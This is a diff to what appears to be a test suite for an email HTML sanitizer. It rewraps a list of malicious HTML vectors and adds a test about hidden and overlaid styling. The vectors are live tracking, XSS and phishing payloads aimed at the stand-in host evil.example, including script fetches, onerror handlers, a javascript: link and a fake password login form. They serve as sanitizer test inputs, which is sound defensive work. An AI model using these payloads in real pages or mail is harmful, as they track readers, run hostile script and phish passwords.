@@ -13,18 +13,24 @@ from tests.integration.running import MAILBOX, Running
 EVIL = "evil.example"
 VECTORS = (
     f'<img src="http://{EVIL}/pixel.gif"><img srcset="http://{EVIL}/a 1x, //{EVIL}/b 2x" src="cid:none">',
-    f'<link rel="stylesheet" href="http://{EVIL}/s.css"><link rel="dns-prefetch" href="//{EVIL}"><link rel="preload" as="image" href="//{EVIL}/p">',
+    f'<link rel="stylesheet" href="http://{EVIL}/s.css"><link rel="dns-prefetch" href="//{EVIL}">'
+    f'<link rel="preload" as="image" href="//{EVIL}/p">',
     f"<style>@import url(http://{EVIL}/i.css); body{{background:url(http://{EVIL}/bg)}}</style>",
     f'<div style="background-image:url(http://{EVIL}/css)">x</div><p style="background-color:URL(//{EVIL}/c)">y</p>',
     f'<table background="http://{EVIL}/t.png"><tr><td background="//{EVIL}/td.png">cell</td></tr></table>',
     f'<iframe src="http://{EVIL}/frame"></iframe><object data="http://{EVIL}/o"></object><embed src="//{EVIL}/e">',
-    f'<script src="http://{EVIL}/x.js"></script><script>fetch("http://{EVIL}/f")</script><svg onload="location=\'//{EVIL}\'"></svg>',
-    f'<base href="http://{EVIL}/"><a href="/relative">relative</a><meta http-equiv="refresh" content="0;url=http://{EVIL}/m">',
+    f'<script src="http://{EVIL}/x.js"></script><script>fetch("http://{EVIL}/f")</script>'
+    f"<svg onload=\"location='//{EVIL}'\"></svg>",
+    f'<base href="http://{EVIL}/"><a href="/relative">relative</a>'
+    f'<meta http-equiv="refresh" content="0;url=http://{EVIL}/m">',
     f'<video poster="//{EVIL}/v" src="//{EVIL}/v.mp4" autoplay></video><audio src="//{EVIL}/a.mp3" autoplay></audio>',
-    f'<form action="http://{EVIL}/login"><input name="password" autofocus onfocus="fetch(\'//{EVIL}\')"><button>Sign in</button></form>',
-    f'<img src=x onerror="document.body.innerHTML=\'<img src=//{EVIL}/n>\'"><math><mtext><img src="//{EVIL}/m"></mtext></math>',
+    f'<form action="http://{EVIL}/login"><input name="password" autofocus onfocus="fetch(\'//{EVIL}\')">'
+    "<button>Sign in</button></form>",
+    f"<img src=x onerror=\"document.body.innerHTML='<img src=//{EVIL}/n>'\">"
+    f'<math><mtext><img src="//{EVIL}/m"></mtext></math>',
     f'<svg><image href="http://{EVIL}/svg.png"/><use href="//{EVIL}/u#x"/></svg><input type="image" src="//{EVIL}/in">',
-    f'<noscript><p title="</noscript><img src=//{EVIL}/mx onerror=alert(1)>"></noscript><template><img src="//{EVIL}/tp"></template>',
+    f'<noscript><p title="</noscript><img src=//{EVIL}/mx onerror=alert(1)>"></noscript>'
+    f'<template><img src="//{EVIL}/tp"></template>',
     f'<a href="http://{EVIL}/click" ping="http://{EVIL}/ping">our bank</a><a href="javascript:alert(1)">run</a>',
     f'<ul style="list-style:url(//{EVIL}/l)"><li>i</li></ul><div style="content:\\75rl(//{EVIL}/esc)">z</div>',
 )
@@ -140,6 +146,12 @@ def test_cleaned_html_holds_no_address_to_ask(html: str) -> None:  # HU2
         "<base",
     ):
         assert word not in kept
+
+
+def test_what_a_mail_hides_stays_hidden() -> None:  # HV1
+    """The designed view shows no more than a mail program would; nothing is laid over the page."""
+    assert cleaned('<p style="display:none;color:red">x</p>') == '<p style="display:none;color:red">x</p>'
+    assert cleaned('<p style="position:fixed;top:0;z-index:9">x</p>') == '<p style="">x</p>'
 
 
 def test_a_link_is_inert_and_shows_its_host() -> None:  # HL5
